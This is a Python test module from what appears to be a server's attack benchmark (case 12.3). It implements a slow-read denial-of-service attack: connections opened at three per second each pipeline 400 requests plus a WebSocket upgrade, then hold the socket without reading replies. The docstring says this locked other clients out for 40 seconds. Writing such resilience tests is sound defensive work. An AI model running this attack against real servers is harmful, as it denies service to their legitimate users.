"""Answers that nobody reads, and then an upgrade.

A client leaves the answers of a kept-alive connection unread until the kernel takes no more, then asks for a
WebSocket. The 101 could not be written, and the handshake held one of sixteen places: at three connections a
second nobody else got in for 40 s, at 6 % CPU.
"""

from collections import Counter

import trio

from bench.attack.harness import Report
from bench.attack.tools import ATTACKERS, Target, connect, request

NUMBER = "12.3"
_RATE = 3  # connections a second
_PIPELINED = 400

_UPGRADE = {
    "Upgrade": "websocket",
    "Connection": "Upgrade",
    "Sec_WebSocket_Key": "dGhlIHNhbXBsZSBub25jZQ==",
    "Sec_WebSocket_Version": "13",
}


async def attack(target: Target, seconds: float) -> dict[str, int]:
    counts = Counter[str]()
    with trio.move_on_after(seconds):
        async with trio.open_nursery() as nursery:
            while True:
                nursery.start_soon(_hold, target, counts)
                await trio.sleep(1 / _RATE)
    return dict(counts)


async def _hold(target: Target, counts: Counter[str]) -> None:
    try:
        stream = await connect(target, ATTACKERS[0])
        async with stream:
            asked = request(target, "/web/peershare.js") * _PIPELINED + request(target, "/ws", **_UPGRADE)
            await stream.send_all(asked)
            counts["asked"] += 1
            await trio.sleep_forever()
    except (OSError, trio.BrokenResourceError):
        counts["closed"] += 1


def check(report: Report) -> None:
    """The harness lets newcomers in meanwhile; here is only that there was an attack."""
    assert report.counts.get("asked", 0) + report.counts.get("closed", 0) > 0
